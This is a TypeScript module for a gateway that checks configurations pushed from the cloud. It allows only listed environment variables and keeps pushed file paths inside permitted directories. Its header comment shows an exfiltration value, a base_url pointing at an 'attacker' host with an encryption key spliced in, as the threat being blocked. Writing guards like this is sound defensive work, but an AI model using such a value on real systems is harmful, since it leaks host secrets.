/**
 * What a configuration pushed from the cloud (the managed `cloud.toml`) may do on this host. It is
 * untrusted input: whoever controls the cloud account could otherwise read the host's environment
 * (`base_url = "http://attacker/${GATEWAY_ENCRYPTION_KEY}"`) or its files (a storage `root` of
 * `/`). So, set by the operator in the local file's `[cloud]` table:
 *
 * - `${NAME}` is expanded only for names in `allowed_env` (any other reference is a problem naming
 *   it, not an empty value);
 * - every path-valued key (`FieldSpec.path`) must stay inside `data_dir` (default `data` in the
 *   state base: `GATEWAY_STATE_DIR`, else beside the config file), and a transform's `spec_path`
 *   inside `transforms_path`: no absolute path elsewhere, no `..` that leaves it.
 */
import { isAbsolute, relative, resolve } from "node:path";
import { isTable, visitFields } from "../../shared/gateway_config/mod.ts";

/** Default `[cloud] data_dir`, relative to the state base (see {@link PushedPolicy.stateDir}). */
export const DEFAULT_DATA_DIR = "data";

/** The operator's limits for pushed configurations. */
export interface PushedPolicy {
  /** Variables a pushed config may reference. */
  allowedEnv: ReadonlySet<string>;
  /** Absolute directory every pushed path must stay inside. */
  dataDir: string;
  /** Absolute `transforms_path`. */
  transformsDir: string;
  /** Absolute directory `state` paths resolve against (`GATEWAY_STATE_DIR`, else the base). */
  stateDir: string;
}

/**
 * The policy of a raw (not yet validated) main config; odd values fall back to the defaults.
 * `stateDir` is the state base (`GATEWAY_STATE_DIR`), by default `baseDir`.
 */
export function pushedPolicy(
  mainRaw: Record<string, unknown>,
  baseDir: string,
  stateDir: string = baseDir,
): PushedPolicy {
  const cloud = isTable(mainRaw.cloud) ? mainRaw.cloud : {};
  const allowed = Array.isArray(cloud.allowed_env)
    ? cloud.allowed_env.filter((n): n is string => typeof n === "string")
    : [];
  const dataDir = typeof cloud.data_dir === "string" && cloud.data_dir !== ""
    ? cloud.data_dir
    : DEFAULT_DATA_DIR;
  const transforms = typeof mainRaw.transforms_path === "string"
    ? mainRaw.transforms_path
    : "transforms";
  return {
    allowedEnv: new Set(allowed),
    dataDir: resolve(stateDir, dataDir),
    transformsDir: resolve(baseDir, transforms),
    stateDir: resolve(stateDir),
  };
}

/** Why a pushed config may not reference `name`, or undefined when it may. */
export function refusedVariable(policy: PushedPolicy, name: string): string | undefined {
  if (policy.allowedEnv.has(name)) return undefined;
  return `\`\${${name}}\`: a configuration pushed from the cloud may reference only the ` +
    "environment variables listed in [cloud] allowed_env of the local configuration file";
}

function inside(dir: string, path: string): boolean {
  const rel = relative(dir, path);
  return rel === "" || (!rel.startsWith("..") && !isAbsolute(rel));
}

/**
 * Every path-valued key of the pushed document `raw` that leaves its allowed directory, as
 * `[key path, message]` pairs. Relative paths resolve as the loader resolves them.
 */
export function pathProblems(
  raw: Record<string, unknown>,
  policy: PushedPolicy,
  baseDir: string,
): [string, string][] {
  const problems: [string, string][] = [];
  visitFields(raw, (f) => {
    if (!f.spec.path || typeof f.value !== "string") return;
    if (f.value.startsWith("s3://")) return; // a bucket, not a host path
    const [base, allowed, where] = f.spec.path === "transforms"
      ? [policy.transformsDir, policy.transformsDir, "transforms_path"]
      : [f.spec.path === "state" ? policy.stateDir : baseDir, policy.dataDir, "[cloud] data_dir"];
    const target = resolve(base, f.value);
    if (!inside(allowed, target)) {
      problems.push([
        f.path,
        `${JSON.stringify(f.value)} is outside ${allowed} (${where}): a configuration pushed ` +
        "from the cloud may only name files inside it",
      ]);
    }
  });
  return problems;
}
